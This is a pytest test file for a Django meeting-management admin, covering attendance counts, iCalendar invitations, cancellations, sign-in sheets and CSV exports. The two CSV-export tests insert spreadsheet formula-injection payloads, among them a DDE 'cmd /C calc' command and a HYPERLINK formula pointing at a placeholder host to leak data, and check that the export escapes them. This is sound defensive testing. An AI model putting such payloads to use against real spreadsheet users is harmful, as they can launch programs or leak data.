"""The coordinators' admin: meeting list with counts, actions, custom pages, action points."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext as _
from icalendar import Calendar

from common import outbox
from common.models import OutgoingEmail
from netwerk.models import ActionItem, Attendance, Meeting
from tests.mail import committed
from tests.netwerk.builders import make_action, make_attendance, make_meeting, make_person

CHANGELIST = "admin:netwerk_meeting_changelist"


@pytest.fixture
def admin_client(client, coordinator):
    client.force_login(coordinator)
    return client


@pytest.fixture
def held_meeting(workgroup, partner, other_partner):
    meeting = make_meeting(workgroup, starts_in=timedelta(days=-2), title="Werkgroep maart")
    make_attendance(meeting, make_person(partner, first_name="An", last_name="Peeters"), partner)
    make_attendance(meeting, make_person(partner), partner, rsvp=Attendance.Rsvp.DECLINED)
    make_attendance(
        meeting, make_person(other_partner), other_partner, presence=Attendance.Presence.PRESENT
    )
    return meeting


def run_action(client, action, meetings, **extra):
    with committed():
        return client.post(
            reverse(CHANGELIST),
            {"action": action, "_selected_action": [m.pk for m in meetings], **extra},
        )


def test_the_changelist_shows_attending_present_and_partners(
    admin_client, held_meeting, django_assert_max_num_queries
):
    for days in (3, 4, 5):
        meeting = make_meeting(held_meeting.group, starts_in=timedelta(days=days))
        make_attendance(meeting, make_person(), None)
    with django_assert_max_num_queries(10):
        response = admin_client.get(reverse(CHANGELIST))
    assert response.status_code == 200
    row = next(m for m in response.context["cl"].result_list if m.pk == held_meeting.pk)
    assert (row.attending_count, row.present_count, row.partner_count) == (2, 1, 2)


def test_the_changelist_filters_and_searches(admin_client, held_meeting, network):
    make_meeting(network, title="Netwerkvergadering", kind=Meeting.Kind.NETWORK)
    response = admin_client.get(reverse(CHANGELIST), {"kind": "network"})
    assert [m.title for m in response.context["cl"].result_list] == ["Netwerkvergadering"]
    response = admin_client.get(reverse(CHANGELIST), {"q": "maart"})
    assert list(response.context["cl"].result_list) == [held_meeting]


def test_the_change_form_has_agenda_attendance_and_action_inlines(admin_client, held_meeting):
    response = admin_client.get(reverse("admin:netwerk_meeting_change", args=[held_meeting.pk]))
    assert response.status_code == 200
    prefixes = {formset.formset.prefix for formset in response.context["inline_admin_formsets"]}
    assert prefixes == {"agenda_items", "attendances", "action_items"}
    assert response.context["save_as"] is True
    assert "_saveasnew" in response.text


def test_adding_a_meeting_that_ends_before_it_starts_shows_a_message(admin_client, workgroup):
    response = admin_client.post(
        reverse("admin:netwerk_meeting_add"),
        {
            "group": workgroup.pk,
            "kind": "workgroup",
            "status": "planned",
            "format": "in_person",
            "starts_at_0": "2030-03-10",
            "starts_at_1": "14:00",
            "ends_at_0": "2030-03-10",
            "ends_at_1": "12:00",
            "minutes_status": "draft",
            "agenda_items-TOTAL_FORMS": "0",
            "agenda_items-INITIAL_FORMS": "0",
            "attendances-TOTAL_FORMS": "0",
            "attendances-INITIAL_FORMS": "0",
            "action_items-TOTAL_FORMS": "0",
            "action_items-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["ends_at"]
    assert not Meeting.objects.exists()


def test_save_as_new_copies_a_meeting_with_its_own_calendar_identity(admin_client, held_meeting):
    held_meeting.sequence = 4
    held_meeting.save()
    local = timezone.localtime(held_meeting.starts_at) + timedelta(days=28)
    data = {
        "group": held_meeting.group_id,
        "kind": held_meeting.kind,
        "title": "Werkgroep april",
        "status": "planned",
        "format": "in_person",
        "starts_at_0": local.strftime("%Y-%m-%d"),
        "starts_at_1": "14:00",
        "ends_at_0": local.strftime("%Y-%m-%d"),
        "ends_at_1": "16:00",
        "minutes_status": "draft",
        "_saveasnew": "1",
    }
    for prefix in ("agenda_items", "attendances", "action_items"):
        data |= {f"{prefix}-TOTAL_FORMS": "0", f"{prefix}-INITIAL_FORMS": "0"}
    url = reverse("admin:netwerk_meeting_change", args=[held_meeting.pk])
    assert admin_client.post(url, data).status_code == 302
    copy = Meeting.objects.get(title="Werkgroep april")
    assert copy.pk != held_meeting.pk
    assert copy.uid != held_meeting.uid
    assert copy.sequence == 0


def test_the_csv_export_opens_in_belgian_excel(admin_client, held_meeting):
    response = run_action(admin_client, "export_attendance_csv", [held_meeting])
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(response)
    assert len(rows) == 4
    assert len(rows[0]) == 10
    an = next(row for row in rows if row[3] == "An Peeters")
    assert an[1] == "Werkgroep maart"
    assert an[5] == "Gezinsbond vzw"
    assert an[0] == timezone.localtime(held_meeting.starts_at).strftime("%d-%m-%Y %H:%M")


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_attendance_export_sends_formulas_as_text(admin_client, workgroup, partner):
    partner.name = "=cmd|' /C calc'!A0"
    partner.save()
    meeting = make_meeting(workgroup, starts_in=timedelta(days=-2), title="+Werkgroep")
    person = make_person(partner, first_name='=HYPERLINK("http://x.example/?leak","klik")')
    make_attendance(meeting, person, partner, note='@SUM(1+1)*cmd|" /C calc"!A0')
    make_attendance(meeting, make_person(partner, last_name="-5"), partner, note="=1+1")
    rows = csv_rows(run_action(admin_client, "export_attendance_csv", [meeting]))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'+Werkgroep" in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert '\'=HYPERLINK("http://x.example/?leak","klik")' in cells
    assert '\'@SUM(1+1)*cmd|" /C calc"!A0' in cells
    assert {"'=1+1", "'-5"} <= cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_mark_attending_as_present(admin_client, held_meeting, workgroup, partner):
    future = make_meeting(workgroup)
    make_attendance(future, make_person(partner), partner)
    run_action(admin_client, "mark_present", [held_meeting, future])
    presence = dict(held_meeting.attendances.values_list("rsvp", "presence"))
    assert presence["attending"] == "present"
    assert presence["declined"] == ""
    assert future.attendances.get().presence == ""


def test_send_invitations_with_an_ics_request(
    admin_client, mailoutbox, workgroup, partner, editor, manager
):
    meeting = make_meeting(workgroup, title="Werkgroep juni")
    run_action(admin_client, "send_invitations", [meeting])
    assert sorted(m.to[0] for m in mailoutbox) == [editor.email, manager.email]
    message = mailoutbox[0]
    assert "Werkgroep juni" in message.subject
    part = message.attachments[0]
    assert part.get_content_type() == "text/calendar"
    assert part.get_param("method") == "REQUEST"
    calendar = Calendar.from_ical(part.get_payload(decode=True))
    assert calendar["METHOD"] == "REQUEST"
    event = calendar.events[0]
    assert str(event["UID"]) == str(meeting.uid)
    assert str(event["ORGANIZER"]).startswith("mailto:")
    assert str(event["ATTENDEE"]) == f"mailto:{message.to[0]}"
    assert Attendance.objects.filter(meeting=meeting, invited_sequence=0).count() == 2
    assert meeting.get_absolute_url() in message.body


def test_sending_invitations_twice_sends_only_updates(admin_client, mailoutbox, workgroup, editor):
    meeting = make_meeting(workgroup)
    run_action(admin_client, "send_invitations", [meeting])
    run_action(admin_client, "send_invitations", [meeting])
    assert len(mailoutbox) == 1
    meeting.starts_at += timedelta(hours=1)
    meeting.ends_at += timedelta(hours=1)
    meeting.save()
    run_action(admin_client, "send_invitations", [meeting])
    assert len(mailoutbox) == 2
    assert mailoutbox[1].subject.startswith(_("Changed"))
    event = Calendar.from_ical(mailoutbox[1].attachments[0].get_payload(decode=True)).events[0]
    assert event["SEQUENCE"] == 1


def test_network_meetings_invite_the_representative_of_every_active_partner(
    admin_client, mailoutbox, network, partner, other_partner, editor, outsider
):
    partner.network_contact = editor
    partner.save()
    make_person(partner, email="collega@example.org")
    run_action(admin_client, "send_invitations", [make_meeting(network)])
    assert sorted(m.to[0] for m in mailoutbox) == [editor.email, outsider.email]


def test_cancel_asks_first_then_cancels_and_notifies(
    admin_client, mailoutbox, workgroup, partner, editor
):
    meeting = make_meeting(workgroup)
    make_attendance(meeting, editor, partner)
    confirmation = run_action(admin_client, "cancel_meetings", [meeting])
    assert confirmation.status_code == 200
    assert 'name="confirm"' in confirmation.text
    meeting.refresh_from_db()
    assert meeting.status == Meeting.Status.PLANNED
    run_action(admin_client, "cancel_meetings", [meeting], confirm="yes")
    meeting.refresh_from_db()
    assert (meeting.status, meeting.sequence) == (Meeting.Status.CANCELLED, 1)
    assert [m.to[0] for m in mailoutbox] == [editor.email]
    part = mailoutbox[0].attachments[0]
    assert part.get_param("method") == "CANCEL"
    calendar = Calendar.from_ical(part.get_payload(decode=True))
    assert calendar["METHOD"] == "CANCEL"
    assert calendar.events[0]["STATUS"] == "CANCELLED"
    assert calendar.events[0]["SEQUENCE"] == 1


def test_a_mail_server_failure_does_not_undo_a_cancellation(
    admin_client, mailoutbox, settings, workgroup, partner, editor
):
    meeting = make_meeting(workgroup)
    make_attendance(meeting, editor, partner)
    settings.EMAIL_BACKEND = "tests.mail.FailingBackend"
    response = run_action(admin_client, "cancel_meetings", [meeting], confirm="yes")
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.status == Meeting.Status.CANCELLED
    mail = OutgoingEmail.objects.get()
    assert (mail.recipients, mail.status) == (editor.email, "pending")
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    outbox.send_queued(now=mail.next_attempt_at)
    assert mailoutbox[0].attachments[0].get_param("method") == "CANCEL"


def test_the_sign_in_sheet_lists_who_is_expected(admin_client, held_meeting):
    url = reverse("admin:netwerk_meeting_sign_in_sheet", args=[held_meeting.pk])
    response = admin_client.get(url)
    assert response.status_code == 200
    assert "An Peeters" in response.text
    assert len(response.context["attendances"]) == 2
    assert response.text.count('class="blank-row"') == 8


def test_the_participation_grid_gives_each_partner_a_rate(
    admin_client, held_meeting, workgroup, partner, other_partner, django_assert_max_num_queries
):
    second = make_meeting(workgroup, starts_in=timedelta(days=-1))
    make_attendance(second, make_person(partner), partner, presence=Attendance.Presence.PRESENT)
    year = timezone.localtime(held_meeting.starts_at).year
    if timezone.localtime(second.starts_at).year != year:
        pytest.skip("the two meetings fall in different years today")
    url = reverse("admin:netwerk_meeting_participation")
    with django_assert_max_num_queries(10):
        response = admin_client.get(url, {"jaar": year})
    rows = {row.partner.name: row for row in response.context["rows"]}
    # Gezinsbond was expected twice (member of the workgroup) and present once.
    assert (rows["Gezinsbond vzw"].expected, rows["Gezinsbond vzw"].present) == (2, 1)
    assert rows["Gezinsbond vzw"].rate == 50
    # Wigwam is no member: present once, but never expected.
    assert rows["Wigwam vzw"].cells[0] == "present"
    assert rows["Wigwam vzw"].rate is None
    download = admin_client.get(url, {"jaar": year, "formaat": "csv"})
    lines = download.content.decode("utf-8-sig").splitlines()
    assert lines[0].split(";")[-1] == _("attendance rate")
    assert any(line.startswith("Gezinsbond vzw;") and line.endswith(";50%") for line in lines)


def test_the_participation_grid_download_sends_formulas_as_text(admin_client, workgroup, partner):
    partner.name = '=HYPERLINK("http://x.example/?leak","klik")'
    partner.save()
    meeting = make_meeting(workgroup, starts_in=timedelta(hours=-3), title="@SUM(1+1)")
    make_attendance(meeting, make_person(partner), partner, presence=Attendance.Presence.PRESENT)
    year = timezone.localtime(meeting.starts_at).year
    url = reverse("admin:netwerk_meeting_participation")
    header, *rows = csv_rows(admin_client.get(url, {"jaar": year, "formaat": "csv"}))
    assert header[1].endswith(" @SUM(1+1)")
    assert rows[0][0] == '\'=HYPERLINK("http://x.example/?leak","klik")'
    assert rows[0][1:] == ["P", "1", "1", "0", "100%"]


def test_a_nonsense_year_falls_back_to_this_year(admin_client):
    url = reverse("admin:netwerk_meeting_participation")
    response = admin_client.get(url, {"jaar": "abc"})
    assert response.context["year"] == timezone.localdate().year


def test_the_overdue_page_lists_late_open_points(admin_client, partner):
    today = timezone.localdate()
    make_action(partner, title="Te laat", due_date=today - timedelta(days=3))
    make_action(partner, title="Op tijd", due_date=today + timedelta(days=3))
    response = admin_client.get(reverse("admin:netwerk_actionitem_overdue"))
    assert "Te laat" in response.text
    assert "Op tijd" not in response.text
    assert response.context["rows"][0]["days"] == 3


def test_action_points_have_an_overdue_filter_and_editable_status(admin_client, partner):
    today = timezone.localdate()
    late = make_action(partner, title="Te laat", due_date=today - timedelta(days=3))
    make_action(partner, title="Op tijd", due_date=today + timedelta(days=3))
    url = reverse("admin:netwerk_actionitem_changelist")
    response = admin_client.get(url, {"te_laat": "ja"})
    assert list(response.context["cl"].result_list) == [late]
    cl = response.context["cl"]
    assert cl.list_editable == ["due_date", "status"]
    response = admin_client.post(
        url + "?te_laat=ja",
        {
            "form-TOTAL_FORMS": "1",
            "form-INITIAL_FORMS": "1",
            "form-0-id": late.pk,
            "form-0-status": "done",
            "form-0-due_date": late.due_date.isoformat(),
            "_save": "Save",
        },
    )
    assert response.status_code == 302
    late.refresh_from_db()
    assert (late.status, late.completed_on) == (ActionItem.Status.DONE, today)


def test_admin_lists_have_a_constant_number_of_queries(
    admin_client, held_meeting, partner, other_partner, django_assert_max_num_queries
):
    for number in range(5):
        make_action(partner if number % 2 else other_partner, meeting=held_meeting)
    for name in ("actionitem", "networkgroup", "opportunity", "attendance", "agendaitem"):
        with django_assert_max_num_queries(10):
            response = admin_client.get(reverse(f"admin:netwerk_{name}_changelist"))
        assert response.status_code == 200, name


def test_partner_staff_cannot_open_the_custom_pages(client, editor, held_meeting):
    client.force_login(editor)
    url = reverse("admin:netwerk_meeting_sign_in_sheet", args=[held_meeting.pk])
    assert client.get(url).status_code == 302  # to the admin login
